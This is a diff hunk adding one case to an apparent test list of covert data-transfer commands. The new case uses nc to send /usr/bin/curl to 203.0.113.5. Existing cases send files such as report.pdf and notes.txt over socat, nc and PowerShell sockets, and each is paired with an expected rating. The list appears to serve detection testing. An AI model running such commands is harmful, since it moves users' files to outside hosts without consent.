@@ -167,6 +167,7 @@ COVERT = [
     ("socat - TCP:203.0.113.5:9000 < ~/report.pdf", None),
     ("cat notes.txt | nc 203.0.113.5 9000", None),
     ("ncat -l 8080 --keep-open < /tmp/index.html", None),
+    ("nc 203.0.113.5 4444 < /usr/bin/curl", None),
     ("$c = New-Object Net.Sockets.TcpClient('203.0.113.5', 9000); $s = $c.GetStream(); "
      "$b = [IO.File]::ReadAllBytes('notes.txt'); $s.Write($b, 0, $b.Length)", "medium"),
     # mail carrying the system's own files, or fed encoded or bulk data
